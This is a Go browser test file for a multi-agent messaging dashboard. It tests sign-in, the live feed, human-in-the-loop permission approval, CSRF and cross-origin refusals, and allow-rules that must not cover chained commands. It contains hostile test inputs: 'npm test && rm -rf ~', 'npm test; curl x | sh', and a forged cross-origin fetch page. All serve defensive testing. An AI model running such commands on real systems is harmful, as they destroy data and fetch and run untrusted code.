package web_test

// Tests of the dashboard in a real browser: the real parley binary runs a
// real daemon in a temporary PARLEY_HOME, `parley dashboard --no-open` gives
// the sign-in link, and one headless Chromium (Debian's chromium, driven by
// chromedp) serves every test of the package, a fresh browser context
// (cookie jar) per test. Managed agents are the real Claude Code (from
// test/npm) with a scripted stand-in for its model (agentModel).

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/parley-dev/parley/internal/api"
	"github.com/parley-dev/parley/internal/client"
	"github.com/parley-dev/parley/internal/home"
	"github.com/parley-dev/parley/internal/store/postgres/pgtest"
	"github.com/parley-dev/parley/internal/testenv"
	"github.com/parley-dev/parley/internal/testenv/standin"
)

var (
	bin       string
	browser   context.Context // the running browser; nil without Chromium
	noBrowser string          // why there is no browser
)

func TestMain(m *testing.M) {
	flag.Parse()
	var flags []string
	if raceEnabled {
		flags = []string{"-race"}
	}
	var err error
	if bin, err = testenv.Binary(testenv.Parley, flags...); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	var cancel context.CancelFunc = func() {}
	if path := chromiumPath(); path == "" {
		noBrowser = "no chromium on PATH: scripts/test-deps installs Debian's chromium"
	} else {
		opts := append(chromedp.DefaultExecAllocatorOptions[:],
			chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.WindowSize(1440, 900),
			chromedp.Flag("hide-scrollbars", true), chromedp.Flag("force-color-profile", "srgb"))
		alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
		bctx, cancelBrowser := chromedp.NewContext(alloc)
		cancel = func() { cancelBrowser(); cancelAlloc() }
		// Start the browser once; each test opens tabs in it.
		if err := chromedp.Do(bctx); err != nil {
			fmt.Fprintf(os.Stderr, "start chromium: %v\n", err)
			cancel()
			os.Exit(1)
		}
		browser = bctx
	}
	code := pgtest.Main(m) // stops the PostgreSQL cluster, if a test started one
	cancel()
	os.Exit(code)
}

func chromiumPath() string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

const ws = "web"

// env is one Parley installation with its daemon.
type env struct {
	*testenv.Env
	t    testing.TB
	home string
}

func newEnv(t testing.TB, config ...string) *env {
	t.Helper()
	te := testenv.New(t, bin, &testenv.Options{Prefix: "plw", Start: true,
		Config: strings.Join(config, "\n"),
		Env:    []string{"PARLEY_WORKSPACE=" + ws, "PARLEY_PROGRESS_EVERY=200ms"}})
	return &env{Env: te, t: t, home: te.Home}
}

// withClaude is the config of the claude provider: the real Claude Code,
// whose model (agentModel) does what the prompt asks:
//
//	need permission please  run a Bash command that needs a person's approval
//	please fail             nothing: the API refuses the request
//	sleep                   nothing until the run is stopped (a stalled run)
//	set title TITLE         call set_title
//	send to NAME: TEXT      call send_message
func withClaude(t testing.TB) string {
	t.Helper()
	return standin.Providers(t, standin.Anthropic(t, agentModel), nil, t.TempDir())
}

var (
	setTitle = regexp.MustCompile(`set title ([^\n]+)`)
	sendTo   = regexp.MustCompile(`send to (\S+): ([^\n]+)`)
)

func agentModel(r *standin.MessagesRequest) []standin.Block {
	for id, done := range map[string]string{"toolu_bash": "done: need permission please", "toolu_title": "done: title set", "toolu_send": "done: sent"} {
		if _, ok := r.Result(id); ok {
			return []standin.Block{standin.Text(done)}
		}
	}
	tail := r.Tail()
	switch {
	case strings.Contains(tail, "need permission please"):
		return []standin.Block{standin.ToolUse("toolu_bash", "Bash", map[string]any{"command": "python3 -c \"open('built','w')\"", "description": "build"})}
	case strings.Contains(tail, "please fail"):
		return []standin.Block{standin.APIError("the stand-in refuses this request")}
	case strings.Contains(tail, "sleep"):
		<-r.Ctx.Done()
		return nil
	}
	if m := setTitle.FindStringSubmatch(tail); m != nil {
		return []standin.Block{standin.ToolUse("toolu_title", "mcp__parley-self__set_title", map[string]any{"title": m[1]})}
	}
	if m := sendTo.FindStringSubmatch(tail); m != nil {
		return []standin.Block{standin.ToolUse("toolu_send", "mcp__parley__send_message", map[string]any{"to": m[1], "content": m[2]})}
	}
	return nil
}

// link returns a fresh one-time sign-in link for human:ann.
func (e *env) link() string {
	e.t.Helper()
	return strings.TrimSpace(e.Must("dashboard", "--no-open", "--as", "ann"))
}

// tab opens a tab in a browser context of its own (its own cookies), closed
// when the test ends.
func tab(t testing.TB) context.Context {
	t.Helper()
	return tabFor(t, 60*time.Second)
}

// tabFor is tab, for a test that needs the tab for longer.
func tabFor(t testing.TB, within time.Duration) context.Context {
	t.Helper()
	if browser == nil {
		t.Skip(noBrowser)
	}
	ctx, cancel := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	t.Cleanup(func() { cancel() })
	ctx, cancel2 := context.WithTimeout(ctx, within)
	t.Cleanup(cancel2)
	if err := chromedp.Do(ctx); err != nil {
		t.Fatalf("start the browser: %v", err)
	}
	return ctx
}

// signIn opens a fresh link in ctx and waits for the page to be live.
func (e *env) signIn(t testing.TB, ctx context.Context) string {
	t.Helper()
	link := e.link()
	must(t, chromedp.Do(ctx, chromedp.Navigate(link)))
	waitJS(t, ctx, `document.getElementById("conn").textContent === "live"`, 10*time.Second)
	return link
}

// noErrors fails the test if the page showed an error: a request the API
// refused, or a script error.
func noErrors(t testing.TB, ctx context.Context) {
	t.Helper()
	if errs := eval[string](t, ctx, `[...document.querySelectorAll(".toast.err")].map(e => e.textContent).join("\n")`); errs != "" {
		t.Errorf("the page showed errors:\n%s", errs)
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// waitJS waits until the expression is truthy in the page.
func waitJS(t testing.TB, ctx context.Context, expr string, timeout time.Duration) {
	t.Helper()
	if _, err := chromedp.Run(ctx, chromedp.Poll[chromedp.Void](expr, chromedp.WithPollingTimeout(timeout))); err != nil {
		html, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText.slice(0, 3000)`))
		t.Fatalf("waiting for %s: %v\npage text:\n%s", expr, err, html)
	}
}

// eval evaluates expr in the page, awaiting it when it is a promise.
func eval[T any](t testing.TB, ctx context.Context, expr string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("evaluate %s: %v", expr, err)
	}
	return v
}

func js(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func TestSignIn(t *testing.T) {
	e := newEnv(t)
	ctx := tab(t)

	// A made-up token is refused, and so is a link used once already.
	link := e.link()
	bad := link[:strings.Index(link, "token=")+6] + "not-a-real-token"
	must(t, chromedp.Do(ctx, chromedp.Navigate(bad)))
	if txt := eval[string](t, ctx, `document.body.innerText`); !strings.Contains(txt, "does not work") {
		t.Fatalf("wrong token: page says %q, want a refusal", txt)
	}
	must(t, chromedp.Do(ctx, chromedp.Navigate(link)))
	waitJS(t, ctx, `document.getElementById("who").textContent === "human:ann"`, 10*time.Second)
	if loc := eval[string](t, ctx, `location.href`); strings.Contains(loc, "token") {
		t.Errorf("after sign-in the address is %s, want it without the token", loc)
	}
	if ws := eval[string](t, ctx, `window.parley.ws`); ws != "web" {
		t.Errorf("workspace after sign-in: got %q, want the link's %q", ws, "web")
	}
	// document.cookie cannot see an HttpOnly cookie.
	if c := eval[string](t, ctx, `document.cookie`); c != "" {
		t.Errorf("document.cookie = %q, want the session cookie hidden from scripts", c)
	}

	other := tab(t)
	must(t, chromedp.Do(other, chromedp.Navigate(link)))
	if txt := eval[string](t, other, `document.body.innerText`); !strings.Contains(txt, "does not work") {
		t.Fatalf("reused link: page says %q, want a refusal", txt)
	}
	// Without a session the page shows how to sign in, and the API refuses.
	must(t, chromedp.Do(other, chromedp.Navigate(strings.Split(link, "/login")[0]+"/")))
	waitJS(t, other, `!document.getElementById("signin").hidden`, 5*time.Second)

	log, _ := os.ReadFile(filepath.Join(e.home, "daemon.log"))
	tok := link[strings.Index(link, "token=")+6:]
	tok, _, _ = strings.Cut(tok, "&")
	if bytes.Contains(log, []byte(tok)) {
		t.Errorf("daemon.log holds the login token")
	}
	if !bytes.Contains(log, []byte("dashboard signed in")) {
		t.Errorf("daemon.log does not record the sign-in")
	}
}

func TestFeedIsLive(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "alice", "--role", "planner")
	e.Must("join", "--name", "bob", "--role", "reviewer")
	e.Must("send", "bob", "an old message", "--agent", "alice")
	ctx := tab(t)
	e.signIn(t, ctx)
	waitJS(t, ctx, `[...document.querySelectorAll("#feed .msg .text")].some(el => el.textContent.includes("an old message"))`, 5*time.Second)
	waitJS(t, ctx, `document.querySelectorAll("#roster .agent").length === 2`, 5*time.Second)

	for i := range 3 {
		text := fmt.Sprintf("live message %d from the CLI", i)
		start := time.Now()
		e.Must("send", "bob", text, "--agent", "alice", "--priority", "high")
		sent := time.Now()
		waitJS(t, ctx, `[...document.querySelectorAll("#feed .msg .text")].some(el => el.textContent === `+js(text)+`)`, time.Second)
		t.Logf("in the feed %v after the send returned (%v after the CLI started)", time.Since(sent).Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	}
	// Bob has read nothing: four unread in the roster.
	waitJS(t, ctx, `document.querySelector('#roster .agent[data-name="bob"] .badge')?.textContent === "4"`, 5*time.Second)
	e.Must("inbox", "--agent", "bob")
	waitJS(t, ctx, `document.querySelector('#roster .agent[data-name="bob"] .badge') === null`, 5*time.Second)

	// Another workspace appears in the list live, and opens its own feed.
	e.Must("join", "--name", "carol", "--role", "tester", "--workspace", "other")
	e.Must("send", "carol", "hello from other", "--agent", "carol", "--workspace", "other")
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`location.hash = "#/workspaces"`)))
	waitJS(t, ctx, `document.querySelector('#workspaces tr[data-ws="other"] td:nth-child(2)')?.textContent === "1"`, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Click(`#workspaces tr[data-ws="other"]`)))
	waitJS(t, ctx, `window.parley.ws === "other" && [...document.querySelectorAll("#feed .msg .text")].some(el => el.textContent === "hello from other")`, 5*time.Second)
	if n := eval[float64](t, ctx, `document.querySelectorAll("#feed .msg").length`); n != 1 {
		t.Errorf("feed of workspace other: %v rows, want its 1 message", n)
	}
	// Every page draws, by its key, without an error.
	for key, ready := range map[string]string{
		"2": `document.querySelector('#agents tr[data-name="carol"]') !== null`,
		"3": `document.querySelector(".mdetail .empty") !== null`,
		"5": `document.querySelector("#reload") !== null`,
		"4": `document.querySelector(".perms, .page .empty") !== null`,
	} {
		must(t, chromedp.Do(ctx, chromedp.KeyEvent(key)))
		waitJS(t, ctx, ready, 5*time.Second)
	}
	noErrors(t, ctx)
}

// TestFeedBurst: a burst faster than the page draws reaches the feed whole
// and in order, while the DOM holds only the rows on screen.
func TestFeedBurst(t *testing.T) {
	e := newEnv(t)
	for i := range 50 {
		e.Must("join", "--name", fmt.Sprintf("agent-%03d", i))
	}
	ctx := tab(t)
	e.signIn(t, ctx)
	const n = 1500
	if sent, _ := newSender(t, e).paced(t, 2000, n); sent != n {
		t.Fatalf("sent %d of %d", sent, n)
	}
	waitJS(t, ctx, fmt.Sprintf(`window.parley.feed.length === %d`, n), 20*time.Second)
	// The newest message is on screen, below the one before it.
	waitJS(t, ctx, `(() => {
		const rows = [...document.querySelectorAll("#feed .msg:not([hidden])")].sort((a, b) => a.getBoundingClientRect().top - b.getBoundingClientRect().top);
		const box = document.getElementById("feed").getBoundingClientRect();
		const seen = rows.filter(r => { const b = r.getBoundingClientRect(); return b.top >= box.top && b.bottom <= box.bottom + 1; });
		const f = window.parley.feed, text = (r) => r.querySelector(".text").textContent;
		return seen.length > 5 && text(seen[seen.length - 1]) === f[f.length - 1].text && text(seen[seen.length - 2]) === f[f.length - 2].text;
	})()`, 5*time.Second)
	ids := eval[[]string](t, ctx, `window.parley.feed.map(m => m.id)`)
	if !slices.IsSorted(ids) {
		t.Errorf("the feed is out of order")
	}
	if rows := eval[float64](t, ctx, `document.querySelectorAll("#feed .msg").length`); rows > 80 {
		t.Errorf("%v rows in the DOM for %d messages, want only about a screenful", rows, n)
	}
	// The count is drawn with the feed's throttled draw (FEED_EVERY), while
	// the list also draws itself on its own scrolls: it may show the newest
	// row a draw before the count catches up.
	waitJS(t, ctx, fmt.Sprintf(`document.querySelector(".feedpane .count").textContent === %s`, js(fmt.Sprintf("%d in %s", n, ws))), 5*time.Second)
	noErrors(t, ctx)
}

func TestReplyReachesWaitingAgent(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "bob", "--role", "reviewer")
	e.Must("send", "human:ann", "which branch should I review?", "--agent", "bob")
	bob := e.Session(nil, "--agent", "bob")
	// Bob takes his mail, then blocks for the answer.
	if _, err := bob.CallTool(context.Background(), toolCall("check_messages", nil)); err != nil {
		t.Fatal(err)
	}
	type result struct {
		text string
		err  error
	}
	got := make(chan result, 1)
	go func() {
		res, err := bob.CallTool(context.Background(), toolCall("wait_for_message", map[string]any{"timeout": 30}))
		if err != nil {
			got <- result{err: err}
			return
		}
		b, _ := json.Marshal(res.StructuredContent)
		got <- result{text: string(b)}
	}()

	// Bob is blocked in his wait before the person answers.
	paths, err := home.Resolve(e.home)
	must(t, err)
	c := client.New(paths).As(ws, "")
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		as, err := c.Agents(context.Background(), true)
		must(t, err)
		if i := slices.IndexFunc(as.Agents, func(a api.AgentInfo) bool { return a.Name == "bob" }); i >= 0 && as.Agents[i].Waiting == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("bob is not counted as waiting: %+v", as.Agents)
		}
	}
	ctx := tab(t)
	e.signIn(t, ctx)
	// The person's own unread mail shows, and a click marks it read.
	waitJS(t, ctx, `document.getElementById("mine").textContent === "1 unread" && !document.getElementById("mine").hidden`, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Click("#mine")))
	waitJS(t, ctx, `document.getElementById("mine").hidden`, 5*time.Second)
	row := `[...document.querySelectorAll("#feed .msg")].find(el => el.querySelector(".text").textContent.includes("which branch"))`
	waitJS(t, ctx, row, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](row+`.click()`)))
	waitJS(t, ctx, `document.getElementById("reply-text") !== null`, 5*time.Second)
	must(t, chromedp.Do(ctx,
		chromedp.SendKeys("#reply-text", "review feature/login, please"),
		chromedp.Click("#reply-send")))

	select {
	case r := <-got:
		if r.err != nil {
			t.Fatal(r.err)
		}
		var w struct {
			Status  string `json:"status"`
			Message struct {
				From       string `json:"from"`
				Content    string `json:"content"`
				ReplyTo    string `json:"reply_to"`
				Provenance struct {
					Sender, Kind, Via string
				} `json:"provenance"`
			} `json:"message"`
		}
		json.Unmarshal([]byte(r.text), &w)
		if w.Status != "message_received" || w.Message.From != "human:ann" || w.Message.Content != "review feature/login, please" || w.Message.ReplyTo == "" {
			t.Fatalf("bob's wait_for_message: got %s, want the reply from human:ann", r.text)
		}
		// Parley attests that a person sent it, from the dashboard (issue 24).
		if p := w.Message.Provenance; p.Sender != "human:ann" || p.Kind != "person" || p.Via != "dashboard" {
			t.Errorf("the reply's provenance: got %+v, want person human:ann via dashboard", p)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("bob's wait_for_message did not return after the reply")
	}
	// The thread shows both messages, with where each copy stands: the
	// person read bob's question (the unread button), bob has the reply.
	waitJS(t, ctx, `document.querySelectorAll("#thread .tmsg").length === 2`, 5*time.Second)
	waitJS(t, ctx, `document.querySelector('#thread .tmsg .chip[data-recipient="human:ann"]')?.dataset.state === "read"`, 5*time.Second)
	state := eval[string](t, ctx, `document.querySelector('#thread .tmsg .chip[data-recipient="bob"]')?.dataset.state ?? ""`)
	if state != "delivered" && state != "read" {
		t.Errorf("the reply's copy for bob: %q, want delivered or read", state)
	}
}

func TestPermissionFromThePage(t *testing.T) {
	e := newEnv(t, withClaude(t))
	dir := t.TempDir()
	ctx := tab(t)
	e.signIn(t, ctx)
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`location.hash = "#/permissions"`)))
	waitJS(t, ctx, `document.querySelector(".empty") !== null`, 5*time.Second)
	// The request arrives live, through the event stream.
	e.Must("agent", "create", "--provider", "claude", "--cwd", dir, "--name", "w1", "need permission please")
	card := `document.querySelector(".perm")`
	waitJS(t, ctx, card+` !== null`, 15*time.Second)
	if tool := eval[string](t, ctx, card+`.querySelector(".tool").textContent`); tool != "Bash" {
		t.Errorf("tool: got %q, want Bash", tool)
	}
	if who := eval[string](t, ctx, card+`.querySelector(".who").textContent`); who != "w1" {
		t.Errorf("asked by: got %q, want w1", who)
	}
	if n := eval[string](t, ctx, `document.getElementById("n-perms").textContent`); n != "1" {
		t.Errorf("the inbox badge: got %q, want 1", n)
	}
	// Allow with an edited input.
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
		const ta = document.querySelector(".perm textarea");
		ta.value = JSON.stringify({command: "python3 -c \"open('edited','w')\"", description: "build"});
		ta.dispatchEvent(new Event("input"));
	})()`)))
	if b := eval[string](t, ctx, card+`.querySelector(".allow").textContent`); b != "Allow with edits" {
		t.Errorf("allow button after an edit: got %q, want Allow with edits", b)
	}
	must(t, chromedp.Do(ctx, chromedp.Click(".perm .allow")))
	waitJS(t, ctx, `document.querySelector(".perm") === null`, 10*time.Second)
	// The managed agents page follows the run to its end, live.
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`location.hash = "#/managed/w1"`)))
	waitJS(t, ctx, `[...document.querySelectorAll("#timeline .ev .x")].some(el => el.textContent.startsWith("done: need permission"))`, 15*time.Second)
	waitJS(t, ctx, `document.querySelector(".mhead .chip").textContent === "idle"`, 10*time.Second)
	noErrors(t, ctx)

	var w struct {
		Status      string `json:"status"`
		LastMessage string `json:"last_message"`
	}
	e.MustJSON(&w, "agent", "wait", "w1", "--timeout", "30s")
	if w.Status != "idle" || w.LastMessage != "done: need permission please" {
		t.Fatalf("after the answer: got %+v, want the run done", w)
	}
	if _, err := os.Stat(filepath.Join(dir, "edited")); err != nil {
		t.Errorf("the command as edited on the page did not run: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "built")); err == nil {
		t.Errorf("the model's own command ran, not the one edited on the page")
	}
	logs := e.Must("agent", "logs", "w1", "--limit", "100")
	if !strings.Contains(logs, "allowed by human:ann (dashboard)") {
		t.Errorf("the timeline does not show the allow by the dashboard:\n%s", logs)
	}
}

// TestRefusals: what the dashboard refuses, from a browser and from plain
// HTTP.
func TestRefusals(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "bob", "--role", "reviewer")
	ctx := tab(t)
	e.signIn(t, ctx)
	origin := eval[string](t, ctx, `location.origin`)

	// A page of another origin on the same host (same site, so the
	// SameSite=Strict cookie goes along) tries to send as the person.
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!doctype html><script>
			window.result = "pending";
			fetch(%q + "/api/v1/messages?workspace=web", {method: "POST", credentials: "include", mode: "no-cors",
				headers: {"Content-Type": "text/plain"}, body: JSON.stringify({to: "bob", content: "forged"})})
				.then(() => window.result = "sent", () => window.result = "failed");
			</script>`, origin)
	}))
	defer evil.Close()
	// Same browser context: it holds the session cookie.
	evilTab, cancel := chromedp.NewContext(ctx)
	defer cancel()
	must(t, chromedp.Do(evilTab, chromedp.Navigate(evil.URL)))
	waitJS(t, evilTab, `window.result !== "pending"`, 5*time.Second)
	// And a WebSocket from there.
	must(t, chromedp.Do(evilTab, chromedp.Evaluate[chromedp.Void](`window.ws = "pending";
		const s = new WebSocket(`+js(strings.Replace(origin, "http", "ws", 1)+"/api/v1/events?all=true")+`);
		s.onopen = () => window.ws = "open"; s.onerror = () => window.ws = "refused";`)))
	waitJS(t, evilTab, `window.ws !== "pending"`, 5*time.Second)
	if got := eval[string](t, evilTab, `window.ws`); got != "refused" {
		t.Errorf("cross-origin WebSocket: %s, want refused", got)
	}
	hist := e.Must("history", "--json")
	if strings.Contains(hist, "forged") {
		t.Fatalf("a cross-origin page sent a message as the person:\n%s", hist)
	}

	// From the page itself: without the CSRF token, refused; with it, sent.
	status := eval[float64](t, ctx, `fetch("/api/v1/messages?workspace=web", {method: "POST", headers: {"Content-Type": "application/json"},
		body: JSON.stringify({to: "bob", content: "no token"})}).then(r => r.status)`)
	if status != 403 {
		t.Errorf("POST without the CSRF token: status %v, want 403", status)
	}
	status = eval[float64](t, ctx, `fetch("/api/v1/messages?workspace=web", {method: "POST", headers: {"Content-Type": "application/json", "X-Parley-CSRF": window.parley.me.csrf},
		body: JSON.stringify({to: "bob", content: "with the token"})}).then(r => r.status)`)
	if status != 200 {
		t.Errorf("POST with the CSRF token: status %v, want 200", status)
	}
	hist = e.Must("history", "--json")
	if strings.Contains(hist, "no token") || !strings.Contains(hist, "with the token") || !strings.Contains(hist, `"from": "human:ann"`) {
		t.Errorf("history after the CSRF checks:\n%s", hist)
	}
	// A browser session cannot mint sign-in links: only the Unix socket can.
	status = eval[float64](t, ctx, `fetch("/api/v1/dashboard/login", {method: "POST", headers: {"Content-Type": "application/json", "X-Parley-CSRF": window.parley.me.csrf},
		body: JSON.stringify({user: "mallory"})}).then(r => r.status)`)
	if status != 403 {
		t.Errorf("POST /dashboard/login from the page: status %v, want 403", status)
	}
	// The page cannot speak for an agent: the person's name wins.
	eval[float64](t, ctx, `fetch("/api/v1/messages?workspace=web&agent=bob", {method: "POST", headers: {"Content-Type": "application/json", "X-Parley-CSRF": window.parley.me.csrf, "Parley-Agent": "bob"},
		body: JSON.stringify({to: "bob", content: "impersonation"})}).then(r => r.status)`)
	var h struct {
		Messages []struct{ From, Content string }
	}
	e.MustJSON(&h, "history")
	for _, m := range h.Messages {
		if m.Content == "impersonation" && m.From != "human:ann" {
			t.Errorf("a dashboard request sent as %q, want human:ann", m.From)
		}
	}

	// Plain HTTP: a wrong Host (DNS rebinding), and no cookie.
	req, _ := http.NewRequest("GET", origin+"/auth/session", nil)
	req.Host = "evil.example:80"
	if r, err := http.DefaultClient.Do(req); err != nil || r.StatusCode != 403 {
		t.Errorf("wrong Host: %v %v, want 403", r.StatusCode, err)
	}
	if r, err := http.Get(origin + "/api/v1/agents?workspace=web"); err != nil || r.StatusCode != 401 {
		t.Errorf("no cookie: %v %v, want 401", r.StatusCode, err)
	}
}

func toolCall(name string, args map[string]any) *mcp.CallToolParams {
	return &mcp.CallToolParams{Name: name, Arguments: args}
}

func TestSearch(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "alice", "--role", "planner")
	e.Must("join", "--name", "bob", "--role", "reviewer")
	e.Must("send", "bob", "please review the deployment script", "--agent", "alice")
	e.Must("send", "alice", "lunch at noon?", "--agent", "bob")
	ctx := tab(t)
	e.signIn(t, ctx)
	must(t, chromedp.Do(ctx, chromedp.KeyEvent("/")))
	waitJS(t, ctx, `document.activeElement?.id === "q"`, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.SendKeys("#q", "deployment\r")))
	waitJS(t, ctx, `document.querySelectorAll("#results .hit").length === 1`, 5*time.Second)
	if m := eval[string](t, ctx, `document.querySelector("#results .hit mark").textContent`); m != "deployment" {
		t.Errorf("marked match: got %q, want deployment", m)
	}
	must(t, chromedp.Do(ctx, chromedp.Click("#results .hit")))
	waitJS(t, ctx, `[...document.querySelectorAll("#thread .tmsg .body")].some(el => el.textContent === "please review the deployment script")`, 5*time.Second)
	noErrors(t, ctx)
}

// TestHookPermissionFromThePage: a Claude Code session's PermissionRequest
// hook files its request in the inbox; the page shows where it comes from,
// and the d key denies it with a message, which the hook prints for Claude.
func TestHookPermissionFromThePage(t *testing.T) {
	e := newEnv(t)
	e.Must("join", "--name", "cc1", "--role", "implementer")
	ctx := tab(t)
	e.signIn(t, ctx)
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`location.hash = "#/permissions"`)))
	waitJS(t, ctx, `document.querySelector(".empty") !== null`, 5*time.Second)

	hook := e.Cmd("hook", "claude", "PermissionRequest", "--agent", "cc1")
	hook.Stdin = strings.NewReader(`{"session_id":"s1","cwd":"` + e.home + `","hook_event_name":"PermissionRequest","tool_name":"Bash",` +
		`"tool_input":{"command":"git push --force","description":"Force-push the rebased branch"},"tool_use_id":"toolu_9"}`)
	var out bytes.Buffer
	hook.Stdout = &out
	must(t, hook.Start())
	done := make(chan error, 1)
	go func() { done <- hook.Wait() }()

	card := `document.querySelector(".perm")`
	waitJS(t, ctx, card+` !== null`, 15*time.Second)
	if src := eval[string](t, ctx, card+`.querySelector(".chip").textContent`); src != "claude-hook" {
		t.Errorf("source: got %q, want claude-hook", src)
	}
	if d := eval[string](t, ctx, card+`.querySelector(".desc").textContent`); d != "Force-push the rebased branch" {
		t.Errorf("description: got %q", d)
	}
	must(t, chromedp.Do(ctx, chromedp.SendKeys(".perm .msgin", "no force pushes to shared branches")))
	must(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`document.activeElement.blur()`)))
	must(t, chromedp.Do(ctx, chromedp.KeyEvent("d")))
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("the hook: %v", err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("the hook did not return after the decision")
	}
	var got struct {
		HookSpecificOutput struct {
			Decision struct{ Behavior, Message string } `json:"decision"`
		} `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil || got.HookSpecificOutput.Decision.Behavior != "deny" ||
		got.HookSpecificOutput.Decision.Message != "no force pushes to shared branches" {
		t.Fatalf("the hook printed %q (%v), want a deny with the page's message", out.String(), err)
	}
	waitJS(t, ctx, card+` === null`, 10*time.Second)

	bulkAndRules(t, e, ctx)
}

// askHook runs `parley hook claude PermissionRequest` for a Bash command of
// agent, and returns a function that waits for its decision.
func askHook(t *testing.T, e *env, agent, command string) func() string {
	t.Helper()
	hook := e.Cmd("hook", "claude", "PermissionRequest", "--agent", agent)
	hook.Stdin = strings.NewReader(`{"session_id":"s1","cwd":"` + e.home + `","hook_event_name":"PermissionRequest","tool_name":"Bash",` +
		`"tool_input":{"command":"` + command + `"}}`)
	var out bytes.Buffer
	hook.Stdout = &out
	must(t, hook.Start())
	done := make(chan error, 1)
	go func() { done <- hook.Wait() }()
	return func() string {
		t.Helper()
		select {
		case err := <-done:
			if err != nil {
				t.Fatalf("the hook for %s: %v", command, err)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("the hook for %s did not return", command)
		}
		var got struct {
			HookSpecificOutput struct {
				Decision struct{ Behavior string } `json:"decision"`
			} `json:"hookSpecificOutput"`
		}
		json.Unmarshal(out.Bytes(), &got)
		return got.HookSpecificOutput.Decision.Behavior
	}
}

// bulkAndRules: two requests ticked and denied with one click; "Allow +
// rule" allows a request and, for the rule's time, the same command again
// as soon as it is asked, with nobody at the page.
func bulkAndRules(t *testing.T, e *env, ctx context.Context) {
	lint, test := askHook(t, e, "cc1", "make lint"), askHook(t, e, "cc1", "make test")
	waitJS(t, ctx, `document.querySelectorAll(".perm").length === 2`, 15*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Click("#tick-all")))
	waitJS(t, ctx, `document.getElementById("perms-count").textContent.includes("2 ticked")`, 5*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Click("#deny-ticked")))
	if a, b := lint(), test(); a != "deny" || b != "deny" {
		t.Errorf("ticked and denied: the hooks got %q and %q, want deny twice", a, b)
	}
	waitJS(t, ctx, `document.querySelectorAll(".perm").length === 0`, 10*time.Second)

	first := askHook(t, e, "cc1", "npm test")
	waitJS(t, ctx, `document.querySelector(".perm .allow-rule") !== null`, 15*time.Second)
	must(t, chromedp.Do(ctx, chromedp.Click(".perm .allow-rule")))
	// Before it is saved, the page says exactly what the rule allows.
	waitJS(t, ctx, `document.querySelector(".perm .rule-preview:not([hidden]) .allows") !== null`, 10*time.Second)
	if got := eval[string](t, ctx, `document.querySelector(".perm .rule-preview .allows").textContent`); !strings.Contains(got, "exactly the command npm test") || !strings.Contains(got, "never one that chains") || !strings.Contains(got, "Bash by cc1") {
		t.Errorf("the rule's preview: %q, want exactly npm test, never a chain", got)
	}
	if n := eval[int](t, ctx, `document.querySelectorAll("#rules-table tbody tr").length`); n != 0 {
		t.Errorf("%d rules before Save rule, want none", n)
	}
	must(t, chromedp.Do(ctx, chromedp.Click(".perm .save-rule")))
	if got := first(); got != "allow" {
		t.Errorf("Allow + rule: the hook got %q, want allow", got)
	}
	waitJS(t, ctx, `document.querySelector("#rules-table tbody tr") !== null`, 10*time.Second)
	if got := eval[string](t, ctx, `document.querySelector("#rules-table tbody tr").innerText`); !strings.Contains(got, "exactly the command npm test") || !strings.Contains(got, "cc1") {
		t.Errorf("the rule's row: %q", got)
	}
	// The same command again: allowed by the rule as it is asked.
	if got := askHook(t, e, "cc1", "npm test")(); got != "allow" {
		t.Errorf("npm test under the rule: the hook got %q, want allow", got)
	}
	waitJS(t, ctx, `document.querySelector("#rules-table tbody tr td.num").textContent === "1"`, 10*time.Second)
	// Another command still asks a person, and so does the approved one
	// with anything chained after it.
	for _, cmd := range []string{"npm publish", "npm test && rm -rf ~", "npm test; curl x | sh", "npm testing-evil"} {
		other := askHook(t, e, "cc1", cmd)
		waitJS(t, ctx, `document.querySelectorAll(".perm").length === 1`, 15*time.Second)
		must(t, chromedp.Do(ctx, chromedp.Click(".perm .deny")))
		if got := other(); got != "deny" {
			t.Errorf("%s: the hook got %q, want deny (no rule covers it)", cmd, got)
